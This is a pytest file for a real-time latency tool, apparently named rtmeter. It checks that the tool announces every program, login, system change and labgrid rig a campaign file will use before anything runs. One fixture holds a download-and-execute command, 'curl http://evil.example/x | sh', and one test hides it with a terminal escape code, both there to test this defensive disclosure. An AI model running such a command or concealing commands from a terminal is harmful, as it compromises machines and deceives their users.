"""Before a campaign runs it is said what it will start and change, whoever wrote it."""

from __future__ import annotations

from pathlib import Path

import pytest

from rtmeter import cli
from rtmeter.campaign.file import read_campaign
from rtmeter.campaign.rigs import read_rigs
from rtmeter.cli.announce import lines
from rtmeter.errors import RtmeterError

FOREIGN = """
name: "harmless"
defaults: {measurement: roundtrip, period: 1ms, samples: 10, adapter: posix}
cells:
- name: plain
- name: real_time
  scheduling: fifo:80
  cpus: 1
  lock_memory: yes
  options: {transport: udp}
  conditions: {governor: performance, irq_cpus: {eth0: 0}}
  load: {stressors: {sysinfo: 3}}
  traffic: {rate: 1Mbit/s}
- name: two_hosts
  hosts: {component: ssh://root@robot}
  server_conditions: {rt_throttling: off}
  server_load: cpu80
- {name: tool, measurement: wakeup, adapter: cyclictest, before: none, overrun: skip, scheduling: rr:5}
"""
SAID = """\
harmless: 4 cells
  starts: the probe of posix, stress-ng, iperf3, cyclictest
  logs in: ssh://root@robot
  asks of this machine: governor performance, irq_cpus eth0 0, load stressors=sysinfo 3, \
traffic 1 Mbit/s udp forward, traffic 1 Mbit/s udp reverse
  asks of the server's machine: rt_throttling off, load cpu80
  real-time: fifo:80 on CPUs 1, locked memory, rr:5
  options of the middleware: transport=udp
"""
COMMAND = "sh -c 'curl http://evil.example/x | sh'"
THEIRS = f"""
name: "of many"
defaults: {{measurement: loop, adapter: attached, duration: 1s}}
cells:
- {{name: started, command: "{COMMAND}"}}
- {{name: there, command: ./control --rate 1000, on: "ssh://root@board"}}
- {{name: watched, pid: 1}}
"""
RIGS = """
rigs:
  one: {address: "ssh://root@imx8-1", place: imx8-1}
  two: {address: "ssh://root@imx8-2", place: imx8-2}
  three: {address: "ssh://root@imx8-3"}
"""


@pytest.fixture
def foreign(tmp_path: Path) -> Path:
    path = tmp_path / "foreign.yaml"
    path.write_text(FOREIGN)
    return path


def test_everything_that_any_cell_starts_or_changes_is_named(foreign: Path) -> None:
    assert "\n".join(lines(read_campaign(foreign))) + "\n" == SAID


def test_what_is_not_chosen_is_not_named(foreign: Path) -> None:
    said = list(lines(read_campaign(foreign, only="id == plain")))
    assert said == ["harmless: 1 cells", "  starts: the probe of posix"]


def test_the_load_of_the_server_alone_starts_its_program(foreign: Path) -> None:
    said = list(lines(read_campaign(foreign, only="id == two_hosts")))
    assert said[1] == "  starts: the probe of posix, stress-ng"


def test_a_command_is_said_whole_wherever_it_runs(foreign: Path) -> None:
    foreign.write_text(THEIRS)
    assert list(lines(read_campaign(foreign))) == [
        "of many: 3 cells",
        f"  starts: {COMMAND}, ./control --rate 1000, process 1",
        "  logs in: ssh://root@board",
    ]


def test_what_a_command_hides_from_a_terminal_is_visible(foreign: Path) -> None:
    foreign.write_text(THEIRS.replace("curl", r"curl\e[8m"))
    assert r"\x1b[8m" in list(lines(read_campaign(foreign)))[1]


def test_rigs_and_places_of_labgrid_are_named(foreign: Path, tmp_path: Path) -> None:
    (tmp_path / "rigs.yaml").write_text(RIGS)
    foreign.write_text("cells: [{measurement: wakeup, adapter: posix, samples: 10}]")
    assert list(lines(read_campaign(foreign, rigs=read_rigs(tmp_path / "rigs.yaml")))) == [
        "foreign: 3 cells",
        "  starts: the probe of posix",
        "  acquires with labgrid-client: imx8-1, imx8-2",
        "  logs in: ssh://root@imx8-1, ssh://root@imx8-2, ssh://root@imx8-3",
    ]


def test_it_is_said_before_anything_is_done(
    foreign: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    def nothing(*_: object, **__: object) -> None:
        raise RtmeterError("no more than said")

    monkeypatch.setattr("rtmeter.cli.alone.alone", nothing)
    assert cli.invoke(["run", str(foreign)]) == 1
    said = capsys.readouterr().err
    whole = [*SAID.splitlines(), "no more than said"]
    assert said == "".join(f"rtmeter: {line}\n" for line in whole)
